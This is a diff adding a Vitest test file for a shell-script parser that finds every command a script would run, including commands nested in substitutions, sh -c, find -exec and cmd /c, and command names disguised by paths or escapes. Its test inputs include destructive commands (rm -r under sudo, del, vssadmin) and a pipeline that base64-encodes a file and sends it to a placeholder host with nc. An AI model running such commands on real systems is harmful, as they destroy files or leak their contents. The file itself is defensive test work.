@@ -1,0 +1,56 @@
+import { describe, expect, test } from 'vitest';
+import { ScriptReader, commandName } from './command.ts';
+
+function commandsOf(text: string): string[] {
+  const reader = new ScriptReader(text);
+  reader.read(0, text.length);
+  return reader.commands.map(({ name, args }) =>
+    [name, ...args.map((word) => word.text)].join(' '),
+  );
+}
+
+describe('commands of a script', () => {
+  test.each([
+    ['a list', 'a 1; b 2 && c || d & e', ['a 1', 'b 2', 'c', 'd', 'e']],
+    ['quotes', `echo "a b" 'c d' e"f"g`, ['echo a b c d efg']],
+    ['wrappers', 'sudo -u root env X=1 nice -n 5 rm -r x', ['rm -r x']],
+    ['an assignment', 'A=1 B=2 run', ['run']],
+    ['a script in an argument', "sh -c 'rm x; ls'", ['sh -c rm x; ls', 'rm x', 'ls']],
+    ['a substitution', 'echo $(rm x) end', ['rm x', 'echo $(rm x) end']],
+    ['backticks in quotes', 'echo "a `rm x` b"', ['rm x', 'echo a `rm x` b']],
+    ['what find runs', 'find . -exec rm {} +', ['find . -exec rm {} +', 'rm {} +']],
+    ['a comment', 'a # b\nc', ['a', 'c']],
+    ['a group', '{ a; }; (b)', ['a', 'b']],
+    ['a continued line', 'a \\\n b', ['a b']],
+    ['cmd', 'cmd /c del x', ['cmd /c del x', 'del x']],
+    ['a redirection', 'a 2>/dev/null > f b', ['a b']],
+  ])('%s', (_, text, expected) => {
+    expect(commandsOf(text)).toEqual(expected);
+  });
+
+  test('a pipeline says what a command reads', () => {
+    const text = 'cat x | base64 | nc h 1';
+    const reader = new ScriptReader(text);
+    reader.read(0, text.length);
+    expect(reader.commands.at(-1)?.input?.input?.name).toBe('cat');
+  });
+
+  test.each([
+    ['/usr/bin/RM', 'rm'],
+    ['r\\m', 'rm'],
+    ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin'],
+    ['.\\tool.cmd', 'tool'],
+  ])('%s is %s', (word, name) => {
+    expect(commandName(word)).toBe(name);
+  });
+
+  test.each([
+    '$('.repeat(5000),
+    '`'.repeat(5001),
+    '"'.repeat(5001),
+    '<<<'.repeat(999),
+    '\\'.repeat(99),
+  ])('never fails on rubbish', (text) => {
+    expect(() => commandsOf(`a ${text}`)).not.toThrow();
+  });
+});
